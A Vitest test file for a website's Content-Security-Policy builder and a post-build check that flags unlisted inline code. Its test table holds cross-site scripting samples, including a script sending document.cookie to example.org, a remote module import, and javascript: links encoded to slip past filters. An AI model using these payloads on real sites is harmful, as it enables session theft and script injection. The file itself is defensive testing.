/**
 * The Content-Security-Policy comes from an allow-list of what the project ships, known
 * before the pages are rendered; the check after the build finds inline code that is not
 * on it, read with an HTML parser (also when split over lines or entity-encoded).
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { projectAllowList } from '../../src/integrations/security-headers.ts';
import { hash, headerPolicy, headersFile, metaPolicy, unlistedInlineCode } from '../../src/lib/build/csp.ts';

const ROOT = join(import.meta.dirname, '..', '..');
const allow = projectAllowList(ROOT);
const meta = metaPolicy(allow);
const THEME = [...allow.origin].find(([, from]) => from.endsWith('ThemeProvider.astro'))?.[0];

/** A page as the build writes it: the policy first in <head>, then whatever `body` holds. */
const page = (body: string, policy = meta) =>
  `<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"/><meta http-equiv="Content-Security-Policy" content="${policy.replace(/'/g, '&#39;')}"/></head><body>${body}</body></html>`;

describe('the allow-list', () => {
  it("holds Starlight's own inline scripts, read from its components before any page is rendered", () => {
    const origins = new Set(allow.origin.values());
    for (const component of ['ThemeProvider.astro', 'ThemeSelect.astro', 'SidebarPersister.astro'])
      expect(
        [...origins].some((o) => o.endsWith(component)),
        component,
      ).toBe(true);
    expect(THEME).toBeDefined();
    expect(allow.scripts.has(THEME ?? '')).toBe(true);
  });

  it('puts the same hashes in the header and the meta policy, and frame-ancestors only in the header', () => {
    const header = headerPolicy(allow);
    for (const h of allow.scripts) {
      expect(header).toContain(h);
      expect(meta).toContain(h);
    }
    expect(header).toContain("frame-ancestors 'none'");
    expect(meta).not.toContain('frame-ancestors');
    expect(meta).not.toMatch(/report-uri|report-to|sandbox/);
    expect(`${header} ${meta}`).not.toMatch(/'unsafe-inline'|'unsafe-eval'/);
    expect(headersFile(header)).toContain(`Content-Security-Policy: ${header}`);
  });
});

describe('the check of a built page', () => {
  it('passes a page with only listed code', () => {
    expect(
      unlistedInlineCode(page('<p style="--depth: 0;">tekst</p><script type="module" src="/_astro/page.js"></script>'), allow, meta),
    ).toEqual([]);
  });

  it.each([
    ['an inline script', '<script>fetch("https://example.org/?" + document.cookie)</script>', 'inline script'],
    ['an inline module', '<script type="module">import("https://example.org/x.js")</script>', 'inline script'],
    ['a script in an SVG', '<svg><script>alert(1)</script></svg>', 'inline script'],
    ['a script from elsewhere', '<script src="https://example.org/x.js"></script>', 'van buiten de site'],
    ['a protocol-relative script', '<script src="//example.org/x.js"></script>', 'van buiten de site'],
    ['an event handler', '<img src="/x.png" alt="" onerror="alert(1)">', 'onerror'],
    ['an event handler split over two lines, in capitals', '<img src="/x.png" alt="" ONERROR\n="alert(1)">', 'onerror'],
    ['a javascript: link', '<a href="javascript:alert(1)">klik</a>', 'script uitvoert'],
    ['an entity-encoded javascript: link', '<a href="&#106;ava&#x73;cript&colon;alert(1)">klik</a>', 'script uitvoert'],
    ['a javascript: link with a tab in it', '<a href="java\tscript:alert(1)">klik</a>', 'script uitvoert'],
    ['a style block', '<style>body{background:url(https://example.org/x)}</style>', '<style>-blok'],
    ['a style attribute', '<p style="position:fixed;inset:0">nep</p>', 'style-attribuut'],
  ])('refuses %s', (_, body, message) => {
    const problems = unlistedInlineCode(page(body), allow, meta);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toContain(message);
  });

  it('does not run data blocks through the script rules', () => {
    expect(unlistedInlineCode(page('<script type="application/ld+json">{"@type":"Thing"}</script>'), allow, meta)).toEqual([]);
  });

  it('refuses a page without the policy, with another policy, or with a script before it', () => {
    const bare = '<!DOCTYPE html><html><head></head><body></body></html>';
    expect(unlistedInlineCode(bare, allow, meta)).toEqual(['mist het Content-Security-Policy-meta-element']);
    expect(unlistedInlineCode(page('', meta.replace("default-src 'self'", 'default-src *')), allow, meta)).toEqual([
      'heeft een Content-Security-Policy-meta-element met een ander beleid',
    ]);
    const early = page('').replace('<meta http-equiv', '<script src="/_astro/a.js"></script><meta http-equiv');
    expect(unlistedInlineCode(early, allow, meta)).toEqual(['heeft een script of stijl vóór het Content-Security-Policy-meta-element']);
  });

  it('hashes nothing from a page into the policy', () => {
    const injected = 'alert(1)';
    unlistedInlineCode(page(`<script>${injected}</script>`), allow, meta);
    expect(allow.scripts.has(hash(injected))).toBe(false);
    expect(meta).not.toContain(hash(injected));
  });
});
